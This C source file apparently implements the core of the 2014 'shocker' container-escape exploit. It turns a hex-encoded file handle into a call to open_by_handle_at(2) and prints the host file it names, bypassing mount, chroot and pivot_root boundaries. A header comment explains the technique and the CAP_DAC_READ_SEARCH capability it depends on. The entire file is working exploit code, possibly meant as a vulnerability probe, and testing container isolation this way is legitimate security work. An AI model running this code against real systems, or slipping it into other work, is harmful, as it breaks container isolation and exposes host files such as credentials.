/* mc-escape-shocker MOUNT-PATH HANDLE-TYPE HANDLE-HEX
 *
 * The core of the 2014 "shocker" exploit: open a file by its file handle.
 * A handle names a file by the filesystem's own numbers (inode, generation),
 * not by a path, so no mount, chroot or pivot_root stands in the way: the
 * kernel only needs an fd of anything on the same filesystem (MOUNT-PATH) to
 * know which filesystem is meant.  open_by_handle_at(2) asks for
 * CAP_DAC_READ_SEARCH in the initial user namespace for exactly this reason.
 *
 * Prints what the file holds, or the call that failed and its errno.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAX_HANDLE 128

static int hex_value(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    return -1;
}

int main(int argc, char **argv)
{
    struct file_handle *handle;
    size_t hex_length, i;
    char buffer[4096];
    ssize_t n;
    int mount_fd, fd;

    if (argc != 4) {
        fprintf(stderr, "usage: %s MOUNT-PATH HANDLE-TYPE HANDLE-HEX\n", argv[0]);
        return 2;
    }
    hex_length = strlen(argv[3]);
    if (hex_length % 2 != 0 || hex_length / 2 > MAX_HANDLE) {
        fprintf(stderr, "the handle must be at most %d bytes in hex\n", MAX_HANDLE);
        return 2;
    }
    handle = malloc(sizeof(*handle) + MAX_HANDLE);
    if (handle == NULL)
        return 1;
    handle->handle_type = atoi(argv[2]);
    handle->handle_bytes = hex_length / 2;
    for (i = 0; i < handle->handle_bytes; i++) {
        int high = hex_value(argv[3][2 * i]), low = hex_value(argv[3][2 * i + 1]);
        if (high < 0 || low < 0) {
            fprintf(stderr, "the handle is not lowercase hex\n");
            return 2;
        }
        handle->f_handle[i] = (unsigned char)(high << 4 | low);
    }

    /* Any file of ours on the host's filesystem tells the kernel which one. */
    mount_fd = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) {
        printf("open(%s): %s\n", argv[1], strerror(errno));
        return 1;
    }
    fd = open_by_handle_at(mount_fd, handle, O_RDONLY);
    if (fd < 0) {
        printf("open_by_handle_at: %s\n", strerror(errno));
        return 1;
    }
    while ((n = read(fd, buffer, sizeof(buffer))) > 0)
        fwrite(buffer, 1, (size_t)n, stdout);
    return 0;
}
